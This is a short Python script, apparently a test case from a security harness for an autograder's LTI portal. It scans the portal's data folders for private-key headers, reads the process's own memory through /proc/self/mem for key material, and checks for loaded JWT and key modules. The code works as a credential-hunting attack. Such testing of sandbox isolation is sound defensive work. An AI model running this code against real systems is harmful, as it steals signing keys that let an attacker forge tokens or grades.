# Attack: looks for the key that the portal signs with: in files, in its memory, in loaded modules.
# Kind: reading

import os
import pathlib
import sys

needle = b"-----BEGIN " + b"PRIVATE KEY-----"
homes = {HOST["portal"], os.environ.get("AUTOGRADER_PORTAL_DATA", ""), "portal-data"} - {""}
for home in homes:
    for path in pathlib.Path(home).rglob("*"):
        try:
            data = path.read_bytes()
        except OSError:
            continue
        if needle in data:
            at = data.index(needle)
            through(f"found a key in {path}: {data[at : at + 100]!r}")
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            span, modes, *_ = line.split()
            start, end = (int(word, 16) for word in span.split("-"))
            if "rw" not in modes or end - start > 64 * 2**20:
                continue
            try:
                memory.seek(start)
                data = memory.read(end - start)
            except (OSError, ValueError):
                continue
            at = data.find(needle + b"\nMII")
            if at >= 0:
                through(f"its memory holds a key: {data[at : at + 100]!r}")
except OSError as error:
    print(error)
for name in ("jwt", "portal.lti.keys", "cryptography.hazmat.primitives.asymmetric.rsa"):
    if name in sys.modules:
        through(f"{name} is loaded")
